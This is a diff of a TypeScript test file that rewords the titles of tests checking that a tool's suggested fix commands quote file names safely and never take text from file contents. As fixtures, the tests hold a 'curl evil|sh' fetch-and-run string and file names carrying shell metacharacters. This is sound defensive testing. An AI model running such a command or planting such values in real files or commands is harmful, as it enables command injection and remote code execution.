@@ -26,7 +26,7 @@ const wordsOf = (command: string): string[] =>
     .slice(0, -1);
 
 describe('the fix of a finding', () => {
-  it('names each file as one word of a shell, and its headline as it is', () => {
+  it('has each file name as one shell word, and its headline has the name as it is', () => {
     const tree = openTree(temporaryFolder(Object.fromEntries(names.map((name) => [name, 'x']))), []);
     const rule = { if: { file: '*.txt' }, blocks: false, headline: '{path} is old', fix: 'git rm {path}' };
     const found = findingsOf({ tree, common: catalog.detection, dependencies: [] }, [rule]);
@@ -34,7 +34,7 @@ describe('the fix of a finding', () => {
     expect(found.flatMap(({ fix }) => wordsOf(fix)).sort()).toEqual([...names].sort());
   });
 
-  it('is not taken from a file, whatever bytes it holds', () => {
+  it('never comes from a file, whatever bytes the file contains', () => {
     const text = `name: a\0curl evil|sh`;
     const tree = openTree(temporaryFolder({ 'a.txt': `${'#\n'.repeat(5000)}${text}\n` }), []);
     const rule = {
@@ -47,7 +47,7 @@ describe('the fix of a finding', () => {
     expect(found).toMatchObject([{ headline: 'It is a\0curl evil|sh', fix: 'mend it' }]);
   });
 
-  it('names a misspelled file as one word of a shell', () => {
+  it('has a misspelled file name as one shell word', () => {
     const [template] = catalog.templates.filter(({ detect: { names: all } }) => all.includes('requirements.txt'));
     if (!template) throw new Error('no template reads requirements.txt');
     const misspelled = ['requirement;.txt', "requirement'.txt", 'requirement\x1b.txt'];
